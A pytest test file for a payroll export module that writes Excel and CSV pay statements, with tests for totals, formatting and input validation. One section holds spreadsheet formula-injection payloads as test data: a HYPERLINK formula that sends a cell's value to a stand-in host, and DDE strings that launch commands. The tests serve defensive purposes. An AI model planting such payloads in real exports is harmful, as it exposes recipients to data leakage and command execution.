"""The payroll export: the files HR and payroll read (CONTRACT.md, "Payroll export").

Each test builds a small :class:`Result` inline, exports it into its own folder and reads the
files back the way their users do: the workbook with openpyxl, the CSV with the csv module.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from payroll_export import EXCEL_MAX_ROWS, ExportError, export_period
from scoring.result import LINES_SCHEMA, STATEMENTS_SCHEMA, Result

PERIOD = "2025-06"

PAYROLL_EN = [
    "period",
    "installer_id",
    "name",
    "team_id",
    "team_name",
    "dealer_id",
    "employment",
    "surveys",
    "rating",
    "grade",
    "bonus",
    "deduction_before_cap",
    "deduction_waived_by_cap",
    "deduction",
    "grievance_allowance",
    "prior_period_adjustment",
    "manual_adjustment",
    "net",
]
PAYROLL_ZH = [
    "期间",
    "工号",
    "姓名",
    "团队编号",
    "团队名称",
    "经销商编号",
    "用工类型",
    "有效问卷数",
    "评分",
    "等级",
    "奖金",
    "扣款(封顶前)",
    "封顶免扣",
    "扣款",
    "委屈奖",
    "往期调整",
    "人工调整",
    "实发合计",
]
LINES_EN = [
    "period",
    "installer_id",
    "rule_id",
    "kind",
    "amount",
    "source",
    "source_id",
    "job_id",
    "corrects_period",
    "explanation",
    "explanation_en",
]
LINES_ZH = [
    "期间",
    "工号",
    "规则编号",
    "类型",
    "金额",
    "来源",
    "来源编号",
    "工单号",
    "更正期间",
    "说明",
    "说明(英文)",
]
MONEY_COLUMNS = PAYROLL_EN[10:]

Line = tuple[str, str, str, str, int, str, str, str | None, str | None, str, str]


def line(
    installer: str,
    kind: str,
    amount_fen: int,
    *,
    rule: str = "five_star",
    source: str = "survey",
    source_id: str = "S1",
    job: str | None = "J1",
    corrects: str | None = None,
    zh: str = "五星好评奖励",
    en: str = "five-star bonus",
) -> Line:
    return (PERIOD, installer, rule, kind, amount_fen, source, source_id, job, corrects, zh, en)


def person(
    installer: str,
    name: str = "张三",
    *,
    surveys: int = 2,
    rating: str | None = "4.235",
    grade: str = "A",
    team_name: str = "一队",
) -> dict[str, Any]:
    return {
        "installer_id": installer,
        "name": name,
        "team_id": "T1",
        "team_name": team_name,
        "dealer_id": "D1",
        "employment": "employee",
        "surveys": surveys,
        "rating_num": None if rating is None else 847,
        "rating_den": None if rating is None else 200,
        "rating": rating,
        "grade": grade if rating is not None else "unrated",
    }


def statements(lines: list[Line], people: list[dict[str, Any]]) -> pl.DataFrame:
    """Statements as the contract defines them, summed here with plain Python."""
    rows = []
    for who in people:
        mine = [ln for ln in lines if ln[1] == who["installer_id"]]

        def total(kind: str, mine: list[Line] = mine) -> int:
            return sum(ln[4] for ln in mine if ln[3] == kind)

        before = -total("deduction")
        waived = total("cap")
        bonus, allowance = total("bonus"), total("allowance")
        prior, manual = total("adjustment"), total("manual")
        deduction = before - waived
        net = bonus - deduction + allowance + prior + manual
        rows.append(
            {
                "period": PERIOD,
                **who,
                "bonus_fen": bonus,
                "deduction_before_cap_fen": before,
                "deduction_waived_by_cap_fen": waived,
                "deduction_fen": deduction,
                "grievance_allowance_fen": allowance,
                "prior_period_adjustment_fen": prior,
                "manual_adjustment_fen": manual,
                "net_fen": net,
            }
        )
    return pl.DataFrame(rows, schema=STATEMENTS_SCHEMA)


def make_result(
    lines: list[Line],
    people: list[dict[str, Any]],
    *,
    draft: bool = False,
    ranking: pl.DataFrame | None = None,
    about: dict[str, Any] | None = None,
) -> Result:
    return Result(
        period=PERIOD,
        lines=pl.DataFrame(lines, schema=LINES_SCHEMA, orient="row"),
        statements=statements(lines, people),
        ranking=ranking if ranking is not None else pl.DataFrame({"team_id": ["T1"], "rank": [1]}),
        surveys=pl.DataFrame(),
        about=about if about is not None else {"plan": {"id": "standard", "version": 3}},
        draft=draft,
    )


BASIC_LINES = [
    line("I001", "bonus", 2000, source_id="S1"),
    line("I001", "bonus", 1550, source_id="S2", job="J2"),
    line("I001", "deduction", -5000, rule="complaint", source="complaint", source_id="C1"),
    line("I001", "cap", 1000, rule="cap", source="period", source_id=PERIOD, job=None),
    line("I001", "allowance", 3000, rule="grievance", source="complaint", source_id="C2"),
    line("I001", "adjustment", -123, rule="five_star", corrects="2025-05", source_id="S0"),
    line("I001", "manual", 45, rule="manual", source="manual", source_id="M1", job=None),
    line("I002", "bonus", 100, source_id="S3", job="J3"),
    line("I002", "deduction", -250, rule="low_score", source_id="S4", job="J4"),
]
BASIC_PEOPLE = [
    person("I001", "张三"),
    person("I002", "李四", rating="3.500", grade="C"),
    person("I003", "王五", surveys=0, rating=None),
]


def basic(**kwargs: Any) -> Result:
    return make_result(BASIC_LINES, BASIC_PEOPLE, **kwargs)


def values(sheet: Worksheet) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def records(sheet: Worksheet) -> list[dict[str, Any]]:
    rows = values(sheet)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def yuan(value: Any) -> Decimal:
    """A money cell as exact yuan (openpyxl reads numbers as int or float)."""
    assert isinstance(value, int | float), value
    return Decimal(str(value))


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        }


# --- (a) the lines of each installer add up to net, exactly --------------------------------


def test_lines_of_each_installer_sum_exactly_to_net(tmp_path: Path) -> None:
    files = export_period(basic(), tmp_path)
    book = openpyxl.load_workbook(files.xlsx)
    payroll = {row["installer_id"]: row for row in records(book["payroll"])}
    sums: dict[str, Decimal] = {}
    for row in records(book["lines"]):
        sums[row["installer_id"]] = sums.get(row["installer_id"], Decimal(0)) + yuan(row["amount"])
    assert set(payroll) == {"I001", "I002", "I003"}
    for installer, row in payroll.items():
        assert sums.get(installer, Decimal(0)) == yuan(row["net"]), installer
    assert yuan(payroll["I001"]["net"]) == Decimal("24.72")
    first = payroll["I001"]
    assert yuan(first["bonus"]) == Decimal("35.50")
    assert yuan(first["deduction_before_cap"]) == Decimal("50.00")
    assert yuan(first["deduction_waived_by_cap"]) == Decimal("10.00")
    assert yuan(first["deduction"]) == Decimal("40.00")
    assert yuan(first["grievance_allowance"]) == Decimal("30.00")
    assert yuan(first["prior_period_adjustment"]) == Decimal("-1.23")
    assert yuan(first["manual_adjustment"]) == Decimal("0.45")
    net = (
        yuan(first["bonus"])
        - yuan(first["deduction"])
        + yuan(first["grievance_allowance"])
        + yuan(first["prior_period_adjustment"])
        + yuan(first["manual_adjustment"])
    )
    assert net == yuan(first["net"])


def test_money_cells_are_exact_numbers_with_two_decimals(tmp_path: Path) -> None:
    big = 123_456_789_012_345  # 1.2 trillion yuan: exact, never through a float
    lines = [line("I001", "bonus", big), line("I001", "deduction", -1, source_id="S2")]
    files = export_period(make_result(lines, [person("I001")]), tmp_path)
    xml = sheet_xml(files.xlsx)["xl/worksheets/sheet2.xml"]
    assert "<v>1234567890123.45</v>" in xml
    assert "<v>-0.01</v>" in xml
    book = openpyxl.load_workbook(files.xlsx)
    for row in book["payroll"].iter_rows(min_row=2):
        for cell in row[10:]:
            assert cell.data_type == "n"
            assert cell.number_format == "0.00"
    amounts = [row[4] for row in book["lines"].iter_rows(min_row=2)]
    assert [cell.number_format for cell in amounts] == ["0.00", "0.00"]
    assert yuan(amounts[1].value) == Decimal("-0.01")


def test_rating_is_a_three_decimal_number_or_blank(tmp_path: Path) -> None:
    files = export_period(basic(), tmp_path)
    payroll = openpyxl.load_workbook(files.xlsx)["payroll"]
    ratings = {row[1].value: row[8] for row in payroll.iter_rows(min_row=2)}
    assert ratings["I001"].value == pytest.approx(4.235)
    assert ratings["I001"].number_format == "0.000"
    assert ratings["I002"].value == pytest.approx(3.5)
    assert ratings["I003"].value is None
    xml = sheet_xml(files.xlsx)["xl/worksheets/sheet1.xml"]
    assert "<v>4.235</v>" in xml and "<v>3.500</v>" in xml
    grades = [row[9].value for row in payroll.iter_rows(min_row=2)]
    assert grades == ["A", "C", "unrated"]


# --- (b) sheets and columns ------------------------------------------------------------------


def test_sheets_and_columns(tmp_path: Path) -> None:
    files = export_period(basic(), tmp_path)
    assert files.sheets == ("payroll", "lines", "ranking", "about")
    book = openpyxl.load_workbook(files.xlsx)
    assert book.sheetnames == ["payroll", "lines", "ranking", "about"]
    assert values(book["payroll"])[0] == PAYROLL_EN
    assert values(book["lines"])[0] == LINES_EN
    assert values(book["ranking"])[0] == ["team_id", "rank"]
    assert values(book["about"])[0] == ["key", "value"]
    assert len(values(book["payroll"])) == 1 + len(BASIC_PEOPLE)
    assert len(values(book["lines"])) == 1 + len(BASIC_LINES)


def test_lines_sheet_keeps_every_field(tmp_path: Path) -> None:
    files = export_period(basic(), tmp_path)
    rows = records(openpyxl.load_workbook(files.xlsx)["lines"])
    adjustment = rows[5]
    assert adjustment == {
        "period": PERIOD,
        "installer_id": "I001",
        "rule_id": "five_star",
        "kind": "adjustment",
        "amount": -1.23,
        "source": "survey",
        "source_id": "S0",
        "job_id": "J1",
        "corrects_period": "2025-05",
        "explanation": "五星好评奖励",
        "explanation_en": "five-star bonus",
    }
    assert rows[3]["job_id"] is None and rows[3]["corrects_period"] is None
    assert [row["kind"] for row in rows] == [ln[3] for ln in BASIC_LINES]


def test_ranking_as_given_with_money_in_yuan(tmp_path: Path) -> None:
    ranking = pl.DataFrame(
        {
            "dealer_id": ["D1", "D1"],
            "rank": [1, None],
            "team_id": ["T1", "T2"],
            "rating": ["4.512", None],
            "wilson_lower": ["0.8123", "0.1000"],
            "revisit_reach_rate": ["87.5%", None],
            "bonus_fen": [123456, -5],
            "share": [0.25, float("nan")],
            "top": [True, False],
        }
    )
    files = export_period(basic(ranking=ranking), tmp_path)
    sheet = openpyxl.load_workbook(files.xlsx)["ranking"]
    rows = values(sheet)
    assert rows[0] == [
        "dealer_id",
        "rank",
        "team_id",
        "rating",
        "wilson_lower",
        "revisit_reach_rate",
        "bonus",
        "share",
        "top",
    ]
    first, second = list(sheet.iter_rows(min_row=2))
    assert [c.value for c in first[:3]] == ["D1", 1, "T1"]
    assert first[3].value == pytest.approx(4.512) and first[3].number_format == "0.000"
    assert first[4].value == pytest.approx(0.8123) and first[4].number_format == "0.0000"
    assert first[5].value == "87.5%"
    assert yuan(first[6].value) == Decimal("1234.56") and first[6].number_format == "0.00"
    assert yuan(second[6].value) == Decimal("-0.05")
    assert first[7].value == 0.25 and second[7].value == "NaN"
    assert first[8].value is True and second[8].value is False
    assert second[1].value is None and second[3].value is None


def test_about_lists_every_key_flattened_with_status(tmp_path: Path) -> None:
    about = {
        "period": PERIOD,
        "plan": {"id": "standard", "version": 3, "checksum": "sha256:ab12"},
        "computed_at": datetime(2025, 7, 1, 8, 30, tzinfo=UTC),
        "closed_at": None,
        "closed_by": "hr-li",
        "inputs": {"surveys": {"rows": 1200, "checksum": "c0ffee"}, "jobs": {"rows": 900}},
        "excused": ["customer_unreasonable", "product"],
        "status": "whatever the engine said",
    }
    files = export_period(basic(about=about, draft=True), tmp_path)
    rows = values(openpyxl.load_workbook(files.xlsx)["about"])
    assert rows == [
        ["key", "value"],
        ["status", "DRAFT"],
        ["period", PERIOD],
        ["plan.id", "standard"],
        ["plan.version", "3"],
        ["plan.checksum", "sha256:ab12"],
        ["computed_at", "2025-07-01T08:30:00+00:00"],
        ["closed_at", None],
        ["closed_by", "hr-li"],
        ["inputs.surveys.rows", "1200"],
        ["inputs.surveys.checksum", "c0ffee"],
        ["inputs.jobs.rows", "900"],
        ["excused", '["customer_unreasonable", "product"]'],
    ]


# --- (c) DRAFT in the names and in about -----------------------------------------------------


def test_open_period_is_a_draft_in_names_and_about(tmp_path: Path) -> None:
    files = export_period(basic(draft=True), tmp_path)
    assert files.xlsx == tmp_path / "payroll-2025-06-DRAFT.xlsx"
    assert files.csv == tmp_path / "payroll-2025-06-DRAFT.csv"
    assert files.paths == (files.xlsx, files.csv)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "payroll-2025-06-DRAFT.csv",
        "payroll-2025-06-DRAFT.xlsx",
    ]
    about = dict(values(openpyxl.load_workbook(files.xlsx)["about"])[1:])
    assert about["status"] == "DRAFT"


def test_closed_period_names_and_about(tmp_path: Path) -> None:
    out = tmp_path / "new" / "folder"
    files = export_period(basic(draft=False), out)
    assert sorted(p.name for p in out.iterdir()) == ["payroll-2025-06.csv", "payroll-2025-06.xlsx"]
    about = dict(values(openpyxl.load_workbook(files.xlsx)["about"])[1:])
    assert about["status"] == "CLOSED"
    assert about["period"] == PERIOD


def test_same_result_gives_the_same_bytes(tmp_path: Path) -> None:
    first = export_period(basic(), tmp_path / "a")
    second = export_period(basic(), tmp_path / "b")
    assert first.xlsx.read_bytes() == second.xlsx.read_bytes()
    assert first.csv.read_bytes() == second.csv.read_bytes()
    again = export_period(basic(), tmp_path / "a")  # overwrites in place
    assert again.xlsx.read_bytes() == first.xlsx.read_bytes()


# --- (d) the CSV -------------------------------------------------------------------------------


def test_csv_has_bom_and_the_payroll_sheet(tmp_path: Path) -> None:
    files = export_period(basic(), tmp_path)
    raw = files.csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "张三".encode() in raw
    rows = read_csv(files.csv)
    assert rows[0] == PAYROLL_EN
    assert rows[1] == [
        PERIOD,
        "I001",
        "张三",
        "T1",
        "一队",
        "D1",
        "employee",
        "2",
        "4.235",
        "A",
        "35.50",
        "50.00",
        "10.00",
        "40.00",
        "30.00",
        "-1.23",
        "0.45",
        "24.72",
    ]
    assert rows[3][7:10] == ["0", "", "unrated"]
    # The CSV carries the same money as the workbook, and every money field is a number.
    book = records(openpyxl.load_workbook(files.xlsx)["payroll"])
    for sheet_row, csv_row in zip(book, rows[1:], strict=True):
        for column in MONEY_COLUMNS:
            text = csv_row[PAYROLL_EN.index(column)]
            assert re.fullmatch(r"-?\d+\.\d\d", text)
            assert Decimal(text) == yuan(sheet_row[column])


def test_csv_quotes_separators_and_newlines(tmp_path: Path) -> None:
    people = [person("I001", 'Li, "Junior"\nthe 2nd')]
    files = export_period(make_result([line("I001", "bonus", 100)], people), tmp_path)
    rows = read_csv(files.csv)
    assert rows[1][2] == 'Li, "Junior"\nthe 2nd'
    assert files.csv.read_bytes().count(b"\r\n") == 2


# --- (e) formula injection -------------------------------------------------------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"请点击")'
EVIL_ID = "+cmd|' /C calc'!A0"
EVIL_ZH = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_EN = "-2+3+cmd|' /C calc'!A0"
EVIL_TEAM = "\t=1+1"
EVIL_RULE = "=1+1"
EVIL_SOURCE = "\r=2+2"


def evil() -> Result:
    lines = [
        line(EVIL_ID, "bonus", 500, rule=EVIL_RULE, source_id=EVIL_SOURCE, zh=EVIL_ZH, en=EVIL_EN),
        line(EVIL_ID, "deduction", -1200, source_id="S2"),
        line("I002", "bonus", 300, zh="正常说明 = 好", en="a - b"),
    ]
    people = [person(EVIL_ID, EVIL_NAME, team_name=EVIL_TEAM), person("I002", "李四")]
    return make_result(lines, people)


def test_formula_injection_is_neutralised_in_xlsx(tmp_path: Path) -> None:
    files = export_period(evil(), tmp_path)
    book = openpyxl.load_workbook(files.xlsx)
    payroll = list(book["payroll"].iter_rows(min_row=2))
    lines = list(book["lines"].iter_rows(min_row=2))
    risky = [
        (payroll[0][1], EVIL_ID),
        (payroll[0][2], EVIL_NAME),
        (payroll[0][4], EVIL_TEAM),
        (lines[0][1], EVIL_ID),
        (lines[0][2], EVIL_RULE),
        (lines[0][6], EVIL_SOURCE),
        (lines[0][9], EVIL_ZH),
        (lines[0][10], EVIL_EN),
    ]
    for cell, text in risky:
        assert cell.value == text  # shown exactly as it is …
        assert cell.data_type == "s"  # … as a string, never a formula …
        assert cell.quotePrefix is True  # … and kept text if someone edits the cell
    harmless = [payroll[1][1], payroll[1][2], lines[2][9], lines[2][10]]
    assert [cell.value for cell in harmless] == ["I002", "李四", "正常说明 = 好", "a - b"]
    assert not any(cell.quotePrefix for cell in harmless)
    # A negative amount is a number, not text, and needs no guard.
    assert lines[1][4].data_type == "n" and lines[1][4].value == -12
    assert not lines[1][4].quotePrefix
    for name, xml in sheet_xml(files.xlsx).items():
        assert "<f>" not in xml and "<f " not in xml, name


def test_formula_injection_is_neutralised_in_csv(tmp_path: Path) -> None:
    files = export_period(evil(), tmp_path)
    rows = read_csv(files.csv)
    assert rows[1][1] == "'" + EVIL_ID
    assert rows[1][2] == "'" + EVIL_NAME
    assert rows[1][4] == "'" + EVIL_TEAM
    assert rows[2][1:3] == ["I002", "李四"]
    # Money stays numeric: a negative deduction balance is a parseable number, not "'-…".
    net = rows[1][PAYROLL_EN.index("net")]
    assert net == "-7.00"
    assert Decimal(net) == Decimal("-7.00")
    for row in rows[1:]:
        for field in row:
            assert not re.match(r"[=+@\t\r]", field), field
            assert not field.startswith("-") or re.fullmatch(r"-\d+\.\d\d", field), field


# --- (f) sheets split at a row limit -----------------------------------------------------------


def test_tiny_row_limit_splits_sheets_and_loses_nothing(tmp_path: Path) -> None:
    lines = [
        line(f"I{n % 4:03d}", "bonus", 100 + n, source_id=f"S{n}", zh=f"第{n}条") for n in range(11)
    ]
    people = [person(f"I{n:03d}") for n in range(4)]
    files = export_period(make_result(lines, people), tmp_path, max_sheet_rows=4)
    assert files.sheets == (
        "payroll",
        "payroll_2",
        "lines",
        "lines_2",
        "lines_3",
        "lines_4",
        "ranking",
        "about",
        "about_2",
    )
    book = openpyxl.load_workbook(files.xlsx)
    assert book.sheetnames == list(files.sheets)
    written: list[list[Any]] = []
    for name in ("lines", "lines_2", "lines_3", "lines_4"):
        rows = values(book[name])
        assert rows[0] == LINES_EN
        assert 2 <= len(rows) <= 4
        written += rows[1:]
    assert [(row[1], row[6], row[9]) for row in written] == [(ln[1], ln[6], ln[9]) for ln in lines]
    payroll = values(book["payroll"])[1:] + values(book["payroll_2"])[1:]
    assert [row[1] for row in payroll] == ["I000", "I001", "I002", "I003"]
    for row in payroll:
        mine = sum((yuan(w[4]) for w in written if w[1] == row[1]), Decimal(0))
        assert mine == yuan(row[-1])
    about = values(book["about"])[1:] + values(book["about_2"])[1:]
    assert about[0] == ["status", "CLOSED"]


def test_default_limit_is_excels() -> None:
    assert EXCEL_MAX_ROWS == 1_048_576


# --- (g) Chinese headings -------------------------------------------------------------------


def test_chinese_headings(tmp_path: Path) -> None:
    files = export_period(basic(), tmp_path, headings="zh")
    book = openpyxl.load_workbook(files.xlsx)
    assert book.sheetnames == ["payroll", "lines", "ranking", "about"]
    assert values(book["payroll"])[0] == PAYROLL_ZH
    assert values(book["lines"])[0] == LINES_ZH
    assert values(book["ranking"])[0] == ["团队编号", "名次"]
    assert values(book["about"])[0] == ["项目", "内容"]
    assert read_csv(files.csv)[0] == PAYROLL_ZH
    assert values(book["payroll"])[1][:3] == [PERIOD, "I001", "张三"]


def test_unknown_heading_language_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="headings"):
        export_period(basic(), tmp_path, headings="fr")  # type: ignore[arg-type]


# --- text survives the trip --------------------------------------------------------------------


def test_awkward_text_reads_back_unchanged(tmp_path: Path) -> None:
    texts = [
        "a & b < c > d",
        "  leading and trailing  ",
        "line one\nline two",
        "quotes \" and ' apostrophes",
        "tab\tinside",
        "emoji 👷 and 中文",
        "",
    ]
    lines = [
        line("I001", "bonus", 1, source_id=f"S{n}", zh=text, en=text)
        for n, text in enumerate(texts)
    ]
    files = export_period(make_result(lines, [person("I001", "  张三 ")]), tmp_path)
    book = openpyxl.load_workbook(files.xlsx)
    read = [row[9].value for row in book["lines"].iter_rows(min_row=2)]
    assert read == texts
    assert book["payroll"]["C2"].value == "  张三 "


def test_characters_xml_forbids_are_written_the_ooxml_way(tmp_path: Path) -> None:
    lines = [line("I001", "bonus", 1, zh="bell\x07 end", en="_x0041_ is not A")]
    files = export_period(make_result(lines, [person("I001")]), tmp_path)
    xml = sheet_xml(files.xlsx)["xl/worksheets/sheet2.xml"]
    assert "bell_x0007_ end" in xml
    assert "_x005F_x0041_ is not A" in xml

    def ooxml_unescape(text: str) -> str:  # what Excel does when it reads the cell
        return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)

    book = openpyxl.load_workbook(files.xlsx)  # openpyxl shows the escapes as they are
    row = next(book["lines"].iter_rows(min_row=2))
    assert ooxml_unescape(row[9].value) == "bell\x07 end"
    assert ooxml_unescape(row[10].value) == "_x0041_ is not A"


# --- what the export refuses -------------------------------------------------------------------


def test_inconsistent_result_is_refused_and_nothing_written(tmp_path: Path) -> None:
    result = basic()
    result = replace(
        result,
        statements=result.statements.with_columns(
            pl.when(pl.col("installer_id") == "I002")
            .then(pl.col("net_fen") + 1)
            .otherwise(pl.col("net_fen"))
            .alias("net_fen")
        ),
    )
    with pytest.raises(ExportError) as caught:
        export_period(result, tmp_path / "out")
    assert any(p.column == "net_fen" and p.value == "I002" for p in caught.value.problems)
    assert not (tmp_path / "out").exists()


def test_lines_that_do_not_add_up_are_refused(tmp_path: Path) -> None:
    result = basic()
    result = replace(result, lines=result.lines.with_columns(pl.col("amount_fen") + 1))
    with pytest.raises(ExportError) as caught:
        export_period(result, tmp_path)
    columns = {p.column for p in caught.value.problems}
    assert {"bonus_fen", "deduction_before_cap_fen"} <= columns
    assert list(tmp_path.iterdir()) == []


def test_a_text_too_long_for_excel_is_refused(tmp_path: Path) -> None:
    fits = "说" * 32_767
    lines = [line("I001", "bonus", 1, zh=fits), line("I001", "bonus", 1, en=fits + "!")]
    with pytest.raises(ExportError) as caught:
        export_period(make_result(lines, [person("I001")]), tmp_path)
    assert [(p.row, p.column) for p in caught.value.problems] == [(2, "explanation_en")]


def test_lines_of_an_installer_without_a_statement_are_refused(tmp_path: Path) -> None:
    result = make_result([*BASIC_LINES, line("I999", "bonus", 0)], BASIC_PEOPLE)
    with pytest.raises(ExportError) as caught:
        export_period(result, tmp_path)
    assert [p.value for p in caught.value.problems] == ["I999"]


def test_malformed_frames_are_refused_with_every_problem(tmp_path: Path) -> None:
    result = basic()
    result = replace(result, lines=result.lines.drop("explanation_en"))
    result = replace(
        result, statements=result.statements.with_columns(pl.col("surveys").cast(pl.String))
    )
    with pytest.raises(ExportError) as caught:
        export_period(result, tmp_path)
    found = {(p.source, p.column) for p in caught.value.problems}
    assert found == {("lines", "explanation_en"), ("statements", "surveys")}


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("rating", "4.2"),
        ("grade", "E"),
        ("period", "2025-07"),
        ("installer_id", "I001"),
        ("name", "长" * 32_768),
    ],
)
def test_bad_statement_values_are_refused(tmp_path: Path, column: str, value: str) -> None:
    result = basic()
    result = replace(
        result,
        statements=result.statements.with_columns(
            pl.when(pl.col("installer_id") == "I002")
            .then(pl.lit(value))
            .otherwise(pl.col(column))
            .alias(column)
        ),
    )
    with pytest.raises(ExportError) as caught:
        export_period(result, tmp_path)
    assert column in {p.column for p in caught.value.problems}


@pytest.mark.parametrize("period", ["../2025-06", "2025-13", "202506"])
def test_a_period_that_is_not_a_month_is_refused(tmp_path: Path, period: str) -> None:
    result = basic()
    result = replace(result, period=period)
    with pytest.raises(ExportError, match="YYYY-MM"):
        export_period(result, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_compatible_dtypes_are_accepted(tmp_path: Path) -> None:
    result = basic()
    result = replace(result, lines=result.lines.with_columns(pl.col("amount_fen").cast(pl.Int32)))
    result = replace(
        result,
        statements=result.statements.with_columns(
            pl.col("surveys").cast(pl.UInt16), pl.col("grade").cast(pl.Categorical)
        ),
    )
    files = export_period(result, tmp_path)
    assert read_csv(files.csv)[1][9] == "A"


def test_empty_period_writes_headings_only(tmp_path: Path) -> None:
    files = export_period(make_result([], [], ranking=pl.DataFrame()), tmp_path)
    book = openpyxl.load_workbook(files.xlsx)
    assert values(book["payroll"]) == [PAYROLL_EN]
    assert values(book["lines"]) == [LINES_EN]
    assert values(book["ranking"]) == []
    assert read_csv(files.csv) == [PAYROLL_EN]


def test_workbook_is_a_sound_zip_and_xml(tmp_path: Path) -> None:
    files = export_period(evil(), tmp_path)
    from xml.etree import ElementTree

    with zipfile.ZipFile(files.xlsx) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert names[0] == "[Content_Types].xml"
        for name in names:
            ElementTree.parse(io.BytesIO(archive.read(name)))  # every part is well-formed XML


def test_a_failed_write_leaves_the_folder_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = export_period(basic(), tmp_path)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def broken(path: Path, *args: object) -> None:
        path.write_bytes(b"half")
        raise OSError("disk full")

    monkeypatch.setattr("payroll_export.export.write_csv", broken)
    changed = make_result([line("I001", "bonus", 999)], [person("I001")])
    with pytest.raises(OSError, match="disk full"):
        export_period(changed, tmp_path)
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
    assert old.xlsx.exists()
